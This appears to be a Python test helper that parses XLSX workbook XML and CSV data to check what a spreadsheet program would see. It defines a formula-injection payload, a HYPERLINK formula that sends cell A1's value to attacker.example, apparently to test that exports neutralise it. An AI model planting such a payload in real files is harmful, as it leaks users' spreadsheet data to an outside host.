"""Reading back what a spreadsheet program would see in our CSV and XLSX files (test helper).

``xlsx_cells`` reads a workbook's XML directly (no spreadsheet library is a dependency): per
sheet, the rows of cells as (kind, value), where kind is ``formula`` for a cell holding a
formula, ``text`` for a string and ``number`` for a number.
"""

import csv
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATIONSHIP = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
PACKAGE = "{http://schemas.openxmlformats.org/package/2006/relationships}"
# A payload that runs as a formula if a spreadsheet reads it as one.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the report")'


def _text(element) -> str:
    return "".join(node.text or "" for node in element.iter(f"{MAIN}t"))


def xlsx_cells(path: Path) -> dict[str, list[list[tuple[str, str]]]]:
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        shared = []
        if "xl/sharedStrings.xml" in names:
            strings = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = [_text(item) for item in strings.findall(f"{MAIN}si")]
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        relations = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
        targets = {
            item.get("Id"): item.get("Target") for item in relations.iter(f"{PACKAGE}Relationship")
        }
        sheets: dict[str, list[list[tuple[str, str]]]] = {}
        for sheet in workbook.iter(f"{MAIN}sheet"):
            target = targets[sheet.get(RELATIONSHIP)]
            document = ElementTree.fromstring(archive.read(f"xl/{target}"))
            rows = []
            for row in document.iter(f"{MAIN}row"):
                cells = []
                for cell in row.iter(f"{MAIN}c"):
                    kind, value = cell.get("t", "n"), cell.find(f"{MAIN}v")
                    if cell.find(f"{MAIN}f") is not None:
                        cells.append(("formula", cell.find(f"{MAIN}f").text or ""))
                    elif kind == "s":
                        cells.append(("text", shared[int(value.text)]))
                    elif kind == "inlineStr":
                        cells.append(("text", _text(cell)))
                    elif kind == "str":
                        cells.append(("text", value.text or ""))
                    else:
                        number = value.text if value is not None else ""
                        cells.append(("number" if kind == "n" else kind, number))
                rows.append(cells)
            sheets[sheet.get("name")] = rows
    return sheets


def csv_rows(data: bytes | str) -> list[dict[str, str]]:
    text = data.decode() if isinstance(data, bytes) else data
    return list(csv.DictReader(io.StringIO(text)))
